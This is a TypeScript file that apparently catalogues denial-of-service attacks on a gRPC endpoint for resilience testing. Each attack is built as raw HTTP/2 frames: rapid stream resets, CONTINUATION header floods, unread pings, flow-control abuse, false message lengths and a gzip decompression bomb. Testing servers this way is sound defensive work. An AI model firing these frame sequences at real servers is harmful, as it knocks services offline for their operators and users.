/** What clients of a gRPC endpoint can do to it without being let in: each as the frames that it sends on one connection. */
import { gzipSync } from 'node:zlib'
import {
  callFields,
  compressedMessage,
  FLAG,
  FRAME,
  field,
  frame,
  grpcMessage,
  number32,
  SETTING,
  setting,
} from './raw-http2.ts'

export interface Attack {
  readonly name: string
  /** Connections that do it at the same time. */
  readonly connections: number
  /** Whether answers are read. */
  readonly isReading: boolean
  /** @param method a call that is answered without anything being registered */
  pieces(method: string): Iterable<Uint8Array>
}

const LOT = 256
const lotOf = (make: (at: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: LOT }, (_, at) => make(at)))

/** Lots of frames; `streams` are odd and rise. */
function* lots(count: number, make: (stream: number) => Buffer): Iterable<Uint8Array> {
  for (let lot = 0; lot < count; lot += 1) yield lotOf((at) => make(1 + 2 * (lot * LOT + at)))
}

const head = (method: string, stream: number, flags = FLAG.endHeaders) =>
  frame(FRAME.headers, flags, stream, callFields(method))

const KIB = 1024
/** Each has sent all but a byte or so of what it claims: 240 KB. */
const MANY_STREAMS = 1_000
const BEGUN_BYTES = 250 * KIB
const BEGUN_FRAMES = 14
const ping = frame(FRAME.ping, 0, 0, Buffer.alloc(8))
const half = Buffer.alloc(16 * KIB - 64)

/** A frame of messages that inflate to 250 KB each, and one of three thousand that are empty. */
const BOMB_STREAMS = 3
const bomb = compressedMessage(gzipSync(Buffer.alloc(BEGUN_BYTES)))
const bombs = Buffer.concat(Array<Buffer>(Math.floor(half.length / bomb.length)).fill(bomb))
const empties = Buffer.alloc(5 * Math.floor(half.length / 5))

export const ATTACKS: readonly Attack[] = [
  {
    name: 'streams that are reset as soon as they are open',
    ...{ connections: 4, isReading: true },
    pieces: (method) =>
      lots(100, (stream) =>
        Buffer.concat([head(method, stream), frame(FRAME.reset, 0, stream, number32(8))]),
      ),
  },
  {
    name: 'a head that never ends, in CONTINUATION frames',
    ...{ connections: 8, isReading: true },
    *pieces(method) {
      yield head(method, 1, 0)
      const line = field('x-flood', 'y'.repeat(100))
      const more = frame(FRAME.more, 0, 1, Buffer.concat(Array<Buffer>(128).fill(line)))
      for (let at = 0; at < 500; at += 1) yield more
    },
  },
  {
    name: 'CONTINUATION frames without a byte in them',
    ...{ connections: 8, isReading: true },
    *pieces(method) {
      yield head(method, 1, 0)
      yield* lots(400, () => frame(FRAME.more, 0, 1))
    },
  },
  {
    name: 'pings whose answers are not read',
    ...{ connections: 8, isReading: false },
    pieces: () => lots(400, () => ping),
  },
  {
    name: 'settings whose acknowledgements are not read',
    ...{ connections: 8, isReading: false },
    pieces: () => lots(400, (stream) => setting(SETTING.initialWindow, stream)),
  },
  {
    name: 'calls for whose answers there is no window',
    ...{ connections: 8, isReading: true },
    *pieces(method) {
      yield setting(SETTING.initialWindow, 0)
      const call = (stream: number) =>
        Buffer.concat([
          head(method, stream),
          frame(FRAME.data, FLAG.end, stream, grpcMessage(Buffer.alloc(0))),
        ])
      yield* lots(16, call)
    },
  },
  {
    name: 'calls whose answers are not read',
    ...{ connections: 8, isReading: false },
    pieces: (method) =>
      lots(16, (stream) =>
        Buffer.concat([
          head(method, stream),
          frame(FRAME.data, FLAG.end, stream, grpcMessage(Buffer.alloc(0))),
        ]),
      ),
  },
  {
    name: 'calls that never send their message',
    ...{ connections: 8, isReading: true },
    pieces: (method) => lots(16, (stream) => head(method, stream)),
  },
  {
    name: 'a message that claims to have four gigabytes, and one that has more than is taken',
    ...{ connections: 8, isReading: true },
    *pieces(method) {
      yield Buffer.concat([
        head(method, 1),
        frame(FRAME.data, 0, 1, grpcMessage(half, 0xff_ff_ff_ff)),
        head(method, 3),
        frame(FRAME.data, 0, 3, grpcMessage(half, 64 * KIB * KIB)),
      ])
      for (let at = 0; at < 1_000; at += 1) {
        yield Buffer.concat([frame(FRAME.data, 0, 1, half), frame(FRAME.data, 0, 3, half)])
      }
    },
  },
  {
    name: 'messages that are begun on many streams, and never end',
    ...{ connections: 2, isReading: true },
    *pieces(method) {
      for (let at = 0; at < MANY_STREAMS; at += 1) {
        const stream = 1 + 2 * at
        yield Buffer.concat([
          head(method, stream),
          frame(FRAME.data, 0, stream, grpcMessage(half, BEGUN_BYTES)),
          ...Array<Buffer>(BEGUN_FRAMES).fill(frame(FRAME.data, 0, stream, half)),
        ])
      }
    },
  },
  {
    name: 'data without a byte in it',
    ...{ connections: 8, isReading: true },
    *pieces(method) {
      yield head(method, 1)
      yield* lots(400, () => frame(FRAME.data, 0, 1))
    },
  },
  {
    name: 'windows that grow beyond their bound',
    ...{ connections: 8, isReading: true },
    *pieces(method) {
      yield head(method, 1)
      yield* lots(50, () => frame(FRAME.window, 0, 1, number32(0x7f_ff_ff_ff)))
    },
  },
  {
    name: 'messages that inflate to a thousand times what was sent',
    ...{ connections: 20, isReading: true },
    *pieces(method) {
      const fields = callFields(method, field('grpc-encoding', 'gzip'))
      for (let at = 0; at < BOMB_STREAMS; at += 1) {
        const stream = 1 + 2 * at
        yield Buffer.concat([
          frame(FRAME.headers, FLAG.endHeaders, stream, fields),
          frame(FRAME.data, 0, stream, bombs),
        ])
      }
    },
  },
  {
    name: 'frames of three thousand empty messages on many streams',
    ...{ connections: 2, isReading: true },
    *pieces(method) {
      for (let at = 0; at < MANY_STREAMS; at += 1) {
        const stream = 1 + 2 * at
        yield Buffer.concat([head(method, stream), frame(FRAME.data, 0, stream, empties)])
      }
    },
  },
  {
    name: 'calls on many connections that are reset as soon as they have been made',
    ...{ connections: 40, isReading: true },
    *pieces(method) {
      const call = (stream: number) =>
        Buffer.concat([
          head(method, stream),
          frame(FRAME.data, FLAG.end, stream, grpcMessage(Buffer.alloc(0))),
          frame(FRAME.reset, 0, stream, number32(8)),
        ])
      yield* lots(4, call)
    },
  },
]
